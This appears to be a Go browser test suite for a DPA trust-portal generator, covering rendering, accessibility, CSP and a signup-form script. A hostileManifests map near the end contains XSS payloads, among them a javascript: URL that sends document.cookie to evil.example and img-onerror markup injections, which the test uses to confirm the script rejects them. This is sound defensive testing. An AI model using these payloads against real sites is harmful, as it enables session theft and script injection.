package e2e

import (
	"context"
	"crypto/sha256"
	"encoding/json"
	"flag"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/trustportal/trustportal/generator"
	"github.com/trustportal/trustportal/generator/chrome"
	"github.com/trustportal/trustportal/generator/emit"
	"github.com/trustportal/trustportal/generator/model"
	"github.com/trustportal/trustportal/generator/release"
	"github.com/trustportal/trustportal/generator/testportal"
)

var screenshots = flag.Bool("screenshots", false, "write the README's screenshots to docs/img/")

var today = model.NewDate(2026, 11, 23)

// env is the sample portal built for a local server, and a browser.
type env struct {
	server  *httptest.Server
	host    string
	out     string
	subpath string // the site served under /trust/, see setupSubpath
	portal  *generator.Portal
	browser context.Context
}

var (
	once     sync.Once
	shared   *env
	setupErr error
	cleanup  []func()
)

func TestMain(m *testing.M) {
	code := m.Run()
	for _, f := range cleanup {
		f()
	}
	os.Exit(code)
}

// setup builds the sample portal for a server on localhost and starts
// Chromium, once for all tests; it skips the test where Chromium is missing.
func setup(t *testing.T) *env {
	t.Helper()
	if _, err := chrome.Find(); err != nil {
		t.Skipf("browser tests skipped: %v", err)
	}
	once.Do(func() {
		e := &env{}
		out, err := os.MkdirTemp("", "trustportal-e2e-")
		if err != nil {
			setupErr = err
			return
		}
		cleanup = append(cleanup, func() { os.RemoveAll(out) })
		e.out = out
		mux := http.NewServeMux()
		mux.Handle("/", http.FileServer(http.Dir(out)))
		mux.HandleFunc("/_test/", testPages)
		// The manifest for signup pages on other origins, as docs/hosting.md
		// has the web server serve it.
		mux.HandleFunc("/api/dpa.json", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Access-Control-Allow-Origin", "*")
			http.ServeFile(w, r, filepath.Join(out, "api", "dpa.json"))
		})
		mux.HandleFunc("/_test/manifest/", e.hostileManifest)
		// The sample's manifest as if it were another portal's, under
		// /_test/outside/: its links lead outside that portal.
		mux.HandleFunc("/_test/outside/api/dpa.json", func(w http.ResponseWriter, r *http.Request) {
			http.ServeFile(w, r, filepath.Join(out, "api", "dpa.json"))
		})
		if e.subpath, err = os.MkdirTemp("", "trustportal-e2e-subpath-"); err != nil {
			setupErr = err
			return
		}
		cleanup = append(cleanup, func() { os.RemoveAll(e.subpath) })
		mux.Handle(subpathRoot, http.StripPrefix(strings.TrimSuffix(subpathRoot, "/"), http.FileServer(http.Dir(filepath.Join(e.subpath, "site")))))
		e.server = httptest.NewServer(mux)
		cleanup = append(cleanup, e.server.Close)
		u, _ := url.Parse(e.server.URL)
		e.host = u.Host
		root := testportal.Root(t)
		if e.portal, err = generator.Load(root); err != nil {
			setupErr = err
			return
		}
		if err = generator.Build(generator.Options{Source: root, Out: filepath.Join(out, "site"), Today: today, BaseURL: e.server.URL}); err != nil {
			setupErr = err
			return
		}
		// Serve the site at the root.
		entries, _ := os.ReadDir(filepath.Join(out, "site"))
		for _, en := range entries {
			os.Rename(filepath.Join(out, "site", en.Name()), filepath.Join(out, en.Name()))
		}
		ctx, cancel, err := chrome.Start(context.Background())
		if err != nil {
			setupErr = err
			return
		}
		cleanup = append([]func(){cancel}, cleanup...)
		e.browser = ctx
		shared = e
	})
	if setupErr != nil {
		t.Fatal(setupErr)
	}
	return shared
}

// testPages serves pages that stand for a signup form and for a careless
// template, for the tests.
func testPages(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	switch r.URL.Path {
	case "/_test/signup.html":
		fmt.Fprint(w, `<!doctype html><html lang="de"><head><title>Signup</title></head><body>
<form><iframe id="dpa" title="AVV" src="`+r.URL.Query().Get("embed")+`" style="width:600px;height:400px"></iframe></form></body></html>`)
	case "/_test/inaccessible.html":
		fmt.Fprint(w, `<!doctype html><html><head><title>x</title></head><body><img src="/none.png"><input type="text"></body></html>`)
	case "/_test/csp.html":
		fmt.Fprint(w, `<!doctype html><html lang="en"><head><meta http-equiv="Content-Security-Policy" content="`+emit.ContentSecurityPolicy+`">
<title>csp</title></head><body><p style="color: red">x</p><script>document.title = "ran"</script></body></html>`)
	case "/_test/accept.html":
		// A signup form on the portal's host, filled by dpa-accept.js from
		// the manifest named in ?manifest=, in the language ?lang=.
		fmt.Fprint(w, `<!doctype html><html lang="de"><head><title>Signup</title></head><body>
<form data-dpa-manifest="`+html.EscapeString(r.URL.Query().Get("manifest"))+`" data-dpa-lang="`+html.EscapeString(r.URL.Query().Get("lang"))+`">
<input type="hidden" name="dpa_version" value="server">
<input type="hidden" name="dpa_language" value="server">
<input type="hidden" name="dpa_sha256" value="server">
<input type="hidden" name="dpa_agreement_sha256" value="server">
<input type="hidden" name="dpa_binding_language" value="server">
<input type="hidden" name="dpa_binding_sha256" value="server">
<input type="hidden" name="dpa_binding_agreement_sha256" value="server">
<label><input type="checkbox" name="dpa_accept" value="yes">
<a data-dpa-link href="/server/">AVV (Version <span data-dpa-version>server</span>)</a></label>
<iframe data-dpa-embed title="AVV" src="about:blank"></iframe>
</form><script src="/js/dpa-accept.js"></script></body></html>`)
	case "/_test/leak.html":
		fmt.Fprint(w, `<!doctype html><html><head><title>leak</title></head><body><img alt="" src="https://tracker.example.net/pixel.gif"></body></html>`)
	default:
		http.NotFound(w, r)
	}
}

// tab opens a tab that records its requests; at the end of the test every
// request must have stayed on the portal's host (or one of also: a signup
// page's).
func (e *env) tab(t *testing.T, also ...string) context.Context {
	t.Helper()
	ctx, rec, cancel, err := chrome.NewTab(e.browser)
	if err != nil {
		t.Fatal(err)
	}
	csp := watchCSP(t, ctx)
	// A bound for a hung browser, not a speed target: a test that runs
	// axe-core on 15 pages takes over a minute on a busy 2-core machine.
	ctx, cancelTimeout := context.WithTimeout(ctx, 5*time.Minute)
	t.Cleanup(func() {
		if foreign := rec.Foreign(append([]string{e.host}, also...)...); len(foreign) > 0 {
			t.Errorf("requests left localhost: %v", foreign)
		}
		if v := csp.get(); len(v) > 0 {
			t.Errorf("Content-Security-Policy violations: %v", v)
		}
		cancelTimeout()
		cancel()
	})
	return ctx
}

func (e *env) url(path string) string { return e.server.URL + path }

// originFragment is what dpa-accept.js appends to the embedded view's URL
// on a signup page of the portal's own origin: the page's origin, to which
// alone the view posts its messages.
func (e *env) originFragment() string { return "#origin=" + url.QueryEscape(e.server.URL) }

// cspLog keeps the browser's reports of Content-Security-Policy violations
// in a tab.
type cspLog struct {
	mu      sync.Mutex
	reports []string
}

// watchCSP records every violation of a Content-Security-Policy that the
// browser reports in the tab of ctx (its console's security messages).
func watchCSP(t *testing.T, ctx context.Context) *cspLog {
	t.Helper()
	l := &cspLog{}
	err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*cdplog.EventEntryAdded); ok && strings.Contains(e.Entry.Text, "Content Security Policy") {
			l.mu.Lock()
			l.reports = append(l.reports, e.Entry.URL+": "+e.Entry.Text)
			l.mu.Unlock()
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func (l *cspLog) get() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.reports...)
}

func do(t *testing.T, ctx context.Context, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(ctx, steps...); err != nil {
		t.Fatal(err)
	}
}

func eval[T any](t *testing.T, ctx context.Context, expr string) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr))
	if err != nil {
		t.Fatalf("%s: %v", expr, err)
	}
	return v
}

// waitLocation waits until the tab's location is want and its document has
// loaded. An evaluation that fails because the tab is between two documents
// ("Inspected target navigated or closed") is retried: that is the navigation
// being waited for, not an error.
func waitLocation(t *testing.T, ctx context.Context, want string) {
	t.Helper()
	var got string
	var lastErr error
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		href, err := chromedp.Run(ctx, chromedp.Evaluate[string]("location.href"))
		if err != nil {
			lastErr = err
			continue
		}
		got = href
		if got != want {
			continue
		}
		state, err := chromedp.Run(ctx, chromedp.Evaluate[string]("document.readyState"))
		if err != nil {
			lastErr = err
			continue
		}
		if state == "complete" {
			return
		}
	}
	t.Fatalf("location %s, want %s (last evaluation error: %v)", got, want, lastErr)
}

func TestBothLanguagesRender(t *testing.T) {
	e := setup(t)
	ctx := e.tab(t)
	for _, tt := range []struct{ path, lang, h1 string }{
		{"/de/dpa/", "de", "Auftragsverarbeitungsvertrag"},
		{"/en/dpa/", "en", "Data Processing Agreement"},
		{"/de/toms/", "de", "Technische und organisatorische Maßnahmen"},
		{"/en/subprocessors/", "en", "Subprocessors"},
	} {
		do(t, ctx, chromedp.Navigate(e.url(tt.path)))
		if got := eval[string](t, ctx, "document.documentElement.lang"); got != tt.lang {
			t.Errorf("%s: lang %q", tt.path, got)
		}
		if got := eval[string](t, ctx, "document.querySelector('h1').innerText"); got != tt.h1 {
			t.Errorf("%s: h1 %q, want %q", tt.path, got, tt.h1)
		}
		// The stylesheet applied: the page is laid out by the portal's CSS.
		if got := eval[string](t, ctx, "getComputedStyle(document.querySelector('.site-header')).borderBottomStyle"); got != "solid" {
			t.Errorf("%s: the portal's stylesheet did not apply (%q)", tt.path, got)
		}
	}
}

// TestLanguageSwitchKeepsPlace: the switch leads to the same document,
// version and anchor in the other language.
func TestLanguageSwitchKeepsPlace(t *testing.T) {
	e := setup(t)
	ctx := e.tab(t)
	v20 := release.NewTimeline(e.portal.Model, today).Find("2.0")
	sub := v20.Docs.DPA.Clauses[5].SubClauses[1].ID
	measure := v20.Docs.TOMs.Areas[3].Measures[2].ID
	for _, tt := range []struct{ from, anchor, to string }{
		{"/de/dpa/2.0/", sub, "/en/dpa/2.0/"},
		{"/en/dpa/", sub, "/de/dpa/"},
		{"/de/toms/1.0/", measure, "/en/toms/1.0/"},
	} {
		do(t, ctx, chromedp.Navigate(e.url(tt.from+"#"+tt.anchor)))
		do(t, ctx, chromedp.Click(chromedp.CSS(".lang-switch a[hreflang]")))
		waitLocation(t, ctx, e.url(tt.to+"#"+tt.anchor))
		if eval[bool](t, ctx, fmt.Sprintf("document.getElementById(%q) !== null", tt.anchor)) != true {
			t.Errorf("%s: anchor %s missing after the switch", tt.to, tt.anchor)
		}
	}
}

func TestVersionSwitcherAndDiff(t *testing.T) {
	e := setup(t)
	ctx := e.tab(t)
	do(t, ctx, chromedp.Navigate(e.url("/de/dpa/")),
		chromedp.Click(chromedp.CSS(".version__switch summary")),
		chromedp.WaitVisible(chromedp.CSS(`.version__switch a[href="/de/dpa/1.0/"]`)),
		chromedp.Click(chromedp.CSS(`.version__switch a[href="/de/dpa/1.0/"]`)))
	waitLocation(t, ctx, e.url("/de/dpa/1.0/"))
	if got := eval[string](t, ctx, "document.querySelector('.version__number').innerText"); got != "Version 1.0" {
		t.Errorf("switched to %q", got)
	}
	do(t, ctx, chromedp.Navigate(e.url("/de/dpa/2.0/")), chromedp.Click(chromedp.CSS(".version__links a")))
	waitLocation(t, ctx, e.url("/de/diff/1.1/2.0/#dpa"))
	if n := eval[int](t, ctx, "document.querySelectorAll('main ins').length"); n == 0 {
		t.Error("the diff page shows no insertion")
	}
	// Redlines do not rest on colour: underline, strike-through and a label.
	if got := eval[string](t, ctx, "getComputedStyle(document.querySelector('.redline ins, .diff-document ins')).textDecorationLine"); !strings.Contains(got, "underline") {
		t.Errorf("<ins> is not underlined: %q", got)
	}
	if got := eval[string](t, ctx, "getComputedStyle(document.querySelector('.diff-document del')).textDecorationLine"); !strings.Contains(got, "line-through") {
		t.Errorf("<del> is not struck through: %q", got)
	}
	if got := eval[string](t, ctx, "document.querySelector('.diff-document ins .visually-hidden').textContent"); got != "[Eingefügt: " {
		t.Errorf("hidden label %q", got)
	}
	// The summary leads to the change.
	do(t, ctx, chromedp.Click(chromedp.CSS(`.diff-summary a[href="#change-dpa-customer-obligations"]`)))
	waitLocation(t, ctx, e.url("/de/diff/1.1/2.0/#change-dpa-customer-obligations"))
}

// TestEmbedInIframe: a signup page on the same host shows the embeddable
// view in an iframe; it carries the manifest's version and hash.
func TestEmbedInIframe(t *testing.T) {
	e := setup(t)
	ctx := e.tab(t)
	cur := release.NewTimeline(e.portal.Model, today).Current
	entry, _ := e.portal.Lock.Find(cur.Version)
	do(t, ctx, chromedp.Navigate(e.url("/_test/signup.html?embed=/de/dpa/"+cur.Version+"/embed.html")))
	var got string
	for range 100 {
		got = eval[string](t, ctx, `(() => { const d = document.getElementById('dpa').contentDocument;
			const a = d && d.querySelector('article[data-sha256]'); return a ? a.dataset.version + ' ' + a.dataset.sha256 : '' })()`)
		if got != "" {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if want := cur.Version + " " + entry.Texts["dpa.de"]; got != want {
		t.Errorf("iframe shows %q, want %q", got, want)
	}
	if n := eval[int](t, ctx, "document.getElementById('dpa').contentDocument.querySelectorAll('section.clause').length"); n != len(cur.Docs.DPA.Clauses) {
		t.Errorf("iframe shows %d clauses", n)
	}
}

// TestRecorderSeesForeignRequests makes sure the localhost check can fail: a
// page loading a tracker is caught.
func TestRecorderSeesForeignRequests(t *testing.T) {
	e := setup(t)
	ctx, rec, cancel, err := chrome.NewTab(e.browser)
	if err != nil {
		t.Fatal(err)
	}
	defer cancel()
	do(t, ctx, chromedp.Navigate(e.url("/_test/leak.html")))
	if f := rec.Foreign(e.host); len(f) != 1 || !strings.Contains(f[0], "tracker.example.net") {
		t.Errorf("foreign requests = %v, want the tracker", f)
	}
}

// TestKeyboardReachesSwitches: with Tab alone, a reader reaches the language
// switch and the version switch.
func TestKeyboardReachesSwitches(t *testing.T) {
	e := setup(t)
	ctx := e.tab(t)
	do(t, ctx, chromedp.Navigate(e.url("/de/dpa/2.0/")))
	reached := map[string]bool{}
	for range 40 {
		do(t, ctx, chromedp.KeyEvent(kb.Tab))
		switch {
		case eval[bool](t, ctx, "document.activeElement.matches('.lang-switch a')"):
			reached["language"] = true
		case eval[bool](t, ctx, "document.activeElement.matches('.version__switch summary')"):
			reached["version"] = true
		}
	}
	if !reached["language"] || !reached["version"] {
		t.Errorf("reached by Tab: %v", reached)
	}
}

func TestScreenshots(t *testing.T) {
	if !*screenshots {
		t.Skip("run with -screenshots to write docs/img/")
	}
	e := setup(t)
	ctx := e.tab(t)
	for _, shot := range []struct {
		name, path, scheme string
		width, height      int64
		query              string // typed into the search field
	}{
		{"dpa", "/de/dpa/", "light", 1200, 900, ""},
		{"diff", "/en/diff/1.1/2.0/", "light", 1200, 900, ""},
		{"subprocessors", "/en/subprocessors/", "light", 1200, 900, ""},
		{"phone", "/de/dpa/", "light", 375, 812, ""},
		{"dark", "/en/toms/", "dark", 1200, 900, ""},
		{"search", "/en/search/", "light", 1200, 900, "encryption"},
	} {
		colorScheme(t, ctx, shot.scheme)
		do(t, ctx, chromedp.EmulateViewport(shot.width, shot.height), chromedp.Navigate(e.url(shot.path)))
		if shot.query != "" {
			do(t, ctx, chromedp.SendKeys(chromedp.CSS("#search-query"), shot.query), chromedp.WaitVisible(chromedp.CSS(".search__results li")))
		}
		png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(testportal.Root(t), "docs", "img", shot.name+".png"), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	colorScheme(t, ctx, "light")
}

// axeSource returns axe-core's script: $TRUSTPORTAL_AXE, which .ci/run sets
// after installing axe-core from the npm registry.
func axeSource(t *testing.T) string {
	t.Helper()
	p := os.Getenv("TRUSTPORTAL_AXE")
	if p == "" {
		t.Skip("accessibility test skipped: set TRUSTPORTAL_AXE to axe-core's axe.min.js (npm install axe-core; .ci/run does)")
	}
	src, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("TRUSTPORTAL_AXE: %v", err)
	}
	return string(src)
}

// pageTypes are a page of every type the portal publishes.
var pageTypes = []string{
	"/de/", "/en/", "/de/dpa/", "/en/dpa/1.0/", "/de/toms/", "/en/toms/2.0/", "/de/subprocessors/",
	"/en/subprocessors/3.0/", "/de/processor/", "/en/versions/", "/de/diff/1.1/2.0/", "/en/diff/2.0/3.0/",
	"/de/dpa/2.0/embed.html", "/en/404.html", "/de/dpa/1.0/checklist/", "/en/dpa/3.0/checklist/", "/de/search/", "/en/search/",
}

// TestAccessibility runs axe-core on every page type in the light and the
// dark colour scheme: no serious or critical violation of WCAG 2.1 A/AA
// (colour contrast included).
func TestAccessibility(t *testing.T) {
	e := setup(t)
	axe := axeSource(t)
	ctx := e.tab(t)
	for _, scheme := range []string{"light", "dark"} {
		colorScheme(t, ctx, scheme)
		for _, p := range pageTypes {
			if got := axeViolations(t, ctx, axe, e.url(p)); got != "[]" {
				t.Errorf("%s (%s): %s", p, scheme, got)
			}
		}
	}
	colorScheme(t, ctx, "light")
	// The check can fail: a page with an unlabelled field and an image
	// without text is caught.
	if got := axeViolations(t, ctx, axe, e.url("/_test/inaccessible.html")); !strings.Contains(got, "image-alt") || !strings.Contains(got, "label") {
		t.Errorf("axe missed the faults of the control page: %s", got)
	}
}

// axeViolations loads page, runs axe-core on it and returns its serious and
// critical violations of WCAG 2.1 A/AA as a JSON list.
func axeViolations(t *testing.T, ctx context.Context, axe, page string) string {
	t.Helper()
	const run = `axe.run(document, {runOnly: {type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']}})
		.then(r => JSON.stringify(r.violations.filter(v => v.impact === 'serious' || v.impact === 'critical')
			.map(v => v.impact + ' ' + v.id + ': ' + v.nodes.slice(0, 3).map(n => n.target.join(' ')).join(', '))))`
	do(t, ctx, chromedp.Navigate(page))
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[chromedp.Void](axe)); err != nil {
		t.Fatalf("inject axe-core: %v", err)
	}
	got, err := chromedp.Run(ctx, chromedp.Evaluate[string](run, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("%s: axe.run: %v", page, err)
	}
	return got
}

// hostileManifests change the portal's manifest as an attacker who can
// publish a file at its address would.
var hostileManifests = map[string]func(current map[string]any, de map[string]any){
	"javascript URL and a hash of zeros": func(_, de map[string]any) {
		de["url"] = "javascript:fetch('http://evil.example/?'+document.cookie)"
		de["sha256"] = strings.Repeat("0", 64)
	},
	"another origin": func(_, de map[string]any) {
		de["url"] = "http://evil.example/de/dpa/2.0/"
		de["embed_url"] = "http://evil.example/de/dpa/2.0/embed.html"
	},
	"protocol-relative URL": func(_, de map[string]any) { de["embed_url"] = "//evil.example/embed.html" },
	"data URL":              func(_, de map[string]any) { de["embed_url"] = "data:text/html,<script>parent.alert(1)</script>" },
	"markup as the hash":    func(_, de map[string]any) { de["sha256"] = `"><img src=x onerror=alert(1)>` },
	"markup as the version": func(cur, _ map[string]any) { cur["version"] = `2.0"><img src=x onerror=alert(1)>` },
	"no agreement hash":     func(_, de map[string]any) { delete(de, "agreement_sha256") },
}

// hostileManifest serves /api/dpa.json changed by the hostileManifests entry
// named by the path's last segment.
func (e *env) hostileManifest(w http.ResponseWriter, r *http.Request) {
	data, err := os.ReadFile(filepath.Join(e.out, "api", "dpa.json"))
	var m map[string]any
	if err == nil {
		err = json.Unmarshal(data, &m)
	}
	change, ok := hostileManifests[strings.TrimPrefix(r.URL.Path, "/_test/manifest/")]
	if err != nil || !ok {
		http.Error(w, fmt.Sprint("no such manifest: ", err), http.StatusNotFound)
		return
	}
	cur := m["current"].(map[string]any)
	change(cur, cur["languages"].(map[string]any)["de"].(map[string]any))
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(m)
}

// acceptForm loads a signup form in lang filled by dpa-accept.js from
// manifest and returns what the script made of it: "filled" or "refused",
// and the form's values.
func acceptForm(t *testing.T, ctx context.Context, e *env, manifest string, lang model.Lang) (outcome string, values []string) {
	t.Helper()
	do(t, ctx, chromedp.Navigate(e.url("/_test/accept.html?manifest="+url.QueryEscape(manifest)+"&lang="+string(lang))))
	for range 100 {
		outcome = eval[string](t, ctx, `(() => { const f = document.forms[0];
			return f.hasAttribute('data-dpa-filled') ? 'filled' : f.hasAttribute('data-dpa-refused') ? 'refused' : '' })()`)
		if outcome != "" {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	values = eval[[]string](t, ctx, `(() => { const f = document.forms[0];
		return [f.dpa_version.value, f.dpa_language.value, f.dpa_sha256.value, f.dpa_agreement_sha256.value,
			f.dpa_binding_language.value, f.dpa_binding_sha256.value, f.dpa_binding_agreement_sha256.value,
			f.querySelector('a[data-dpa-link]').href, f.querySelector('[data-dpa-version]').textContent,
			f.querySelector('iframe[data-dpa-embed]').src] })()`)
	return outcome, values
}

// TestAcceptScriptChecksTheManifest: dpa-accept.js fills the form from the
// portal's manifest (the agreement hash, and in English, the language that
// does not bind, the binding German hashes too), and from a manifest with a
// link that is not the portal's, or a hash or version that is not one, it
// fills nothing.
func TestAcceptScriptChecksTheManifest(t *testing.T) {
	e := setup(t)
	ctx := e.tab(t)
	cur := release.NewTimeline(e.portal.Model, today).Current
	entry, _ := e.portal.Lock.Find(cur.Version)
	// The agreement hashes, from the published agreement texts.
	agreement := func(lang model.Lang) string {
		data, err := os.ReadFile(filepath.Join(e.out, string(lang), "dpa", cur.Version, "agreement-"+cur.Version+"."+string(lang)+".txt"))
		if err != nil {
			t.Fatal(err)
		}
		return fmt.Sprintf("%x", sha256.Sum256(data))
	}
	for _, tc := range []struct {
		lang    model.Lang
		binding []string // language, DPA hash, agreement hash
	}{
		{model.DE, []string{"", "", ""}},
		{model.EN, []string{"de", entry.Texts["dpa.de"], agreement(model.DE)}},
	} {
		outcome, got := acceptForm(t, ctx, e, "/api/dpa.json", tc.lang)
		l := string(tc.lang)
		want := append([]string{cur.Version, l, entry.Texts["dpa."+l], agreement(tc.lang)}, tc.binding...)
		want = append(want, e.url("/"+l+"/dpa/"+cur.Version+"/"), cur.Version, e.url("/"+l+"/dpa/"+cur.Version+"/embed.html")+e.originFragment())
		if outcome != "filled" || strings.Join(got, " ") != strings.Join(want, " ") {
			t.Errorf("the portal's manifest in %s: %s %q, want filled %q", l, outcome, got, want)
		}
	}
	server := []string{"server", "server", "server", "server", "server", "server", "server", e.url("/server/"), "server", "about:blank"}
	manifests := map[string]string{"links outside the manifest's portal": "/_test/outside/api/dpa.json"}
	for name := range hostileManifests {
		manifests[name] = "/_test/manifest/" + name
	}
	for name, manifest := range manifests {
		t.Run(name, func(t *testing.T) {
			outcome, got := acceptForm(t, ctx, e, manifest, model.DE)
			if outcome != "refused" || strings.Join(got, " ") != strings.Join(server, " ") {
				t.Errorf("%s %q, want refused and the server's values %q", outcome, got, server)
			}
		})
	}
}

// TestNoCSPViolation loads every page type, the embedded view in a signup
// page included, and uses the language and version switches: the browser
// reports no violation of the portal's Content-Security-Policy (the tab
// fails the test on any).
func TestNoCSPViolation(t *testing.T) {
	e := setup(t)
	ctx := e.tab(t)
	pages := []string{
		"/", "/de/", "/en/", "/de/dpa/", "/en/dpa/1.0/", "/de/toms/", "/en/toms/2.0/", "/de/subprocessors/",
		"/en/subprocessors/3.0/", "/de/processor/", "/en/versions/", "/de/diff/1.1/2.0/", "/en/diff/2.0/3.0/",
		"/de/dpa/2.0/embed.html", "/en/404.html", "/_test/signup.html?embed=/de/dpa/2.0/embed.html",
	}
	for _, p := range pages {
		do(t, ctx, chromedp.Navigate(e.url(p)))
		if p == "/" { // a redirect to the binding language's home page
			waitLocation(t, ctx, e.url("/de/"))
			continue
		}
		if got := eval[string](t, ctx, "document.readyState"); got != "complete" {
			t.Errorf("%s: %s", p, got)
		}
	}
	do(t, ctx, chromedp.Navigate(e.url("/de/dpa/#"+cspAnchor(e))), chromedp.Click(chromedp.CSS(".lang-switch a[hreflang]")))
	waitLocation(t, ctx, e.url("/en/dpa/#"+cspAnchor(e)))
}

func cspAnchor(e *env) string {
	return release.NewTimeline(e.portal.Model, today).Current.Docs.DPA.Clauses[0].ID
}

// TestCSPWatchSeesViolations makes sure the check can fail: a page with the
// portal's policy and an inline script and style is reported.
func TestCSPWatchSeesViolations(t *testing.T) {
	e := setup(t)
	ctx, _, cancel, err := chrome.NewTab(e.browser)
	if err != nil {
		t.Fatal(err)
	}
	defer cancel()
	csp := watchCSP(t, ctx)
	do(t, ctx, chromedp.Navigate(e.url("/_test/csp.html")))
	if got := eval[string](t, ctx, "document.title"); got != "csp" {
		t.Errorf("the inline script ran: title %q", got)
	}
	var reports []string
	for range 50 {
		if reports = csp.get(); len(reports) >= 2 {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if joined := strings.Join(reports, "\n"); !strings.Contains(joined, "script-src") || !strings.Contains(joined, "style-src") {
		t.Errorf("violations reported: %v, want the inline script and the inline style", reports)
	}
}
